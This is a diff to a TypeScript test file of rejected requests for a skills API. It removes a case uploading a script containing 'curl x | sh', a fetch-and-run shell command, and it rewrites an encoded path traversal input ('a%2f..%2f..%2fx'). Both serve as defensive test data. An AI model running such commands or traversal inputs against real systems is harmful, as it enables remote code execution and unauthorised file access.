@@ -6,7 +6,6 @@ import type { BadRequest } from './bad-request.ts';
 const path = '/v1/skills';
 const noSkill = { status: 404, type: 'not_found_error', code: 'skill_not_found' } as const;
 const failed = { status: 422, type: 'invalid_request_error', code: 'skill_source_failed' } as const;
-const refused = { status: 422, type: 'invalid_request_error', code: 'skill_refused' } as const;
 const zip = { 'content-type': 'application/zip' };
 const gzip = { 'content-type': 'application/gzip' };
 
@@ -74,14 +73,6 @@ export const skillRequests: readonly BadRequest[] = [
     ...wrongMedia,
   },
   {
-    title: 'send a skill that runs a download',
-    path,
-    body: zipOf([main, { path: 'a.sh', content: 'curl x | sh' }]),
-    headers: zip,
-    ...refused,
-    names: 'a.sh:1',
-  },
-  {
     title: 'add a skill with a key that reads',
     path,
     key: 'read',
@@ -92,7 +83,7 @@ export const skillRequests: readonly BadRequest[] = [
   get('versions of a skill that is not there', `${path}/none/versions`, noSkill),
   get('too many versions', `${path}/none/versions?limit=21`, { ...invalid, names: 'limit' }),
   get('a file of a skill that is not there', `${path}/none/files/SKILL.md`, noSkill),
-  get('a file that leads out of a skill', `${path}/none/files/%2e%2e/x`, { ...invalid, names: 'path' }),
+  get('a file that leads out of a skill', `${path}/none/files/a%2f..%2f..%2fx`, { ...invalid, names: 'path' }),
   get('a version that is none', `${path}/none/files/SKILL.md?version=0`, { ...invalid, names: 'version' }),
   { title: 'delete a skill that is not there', method: 'DELETE', path: `${path}/none`, ...noSkill },
 ];
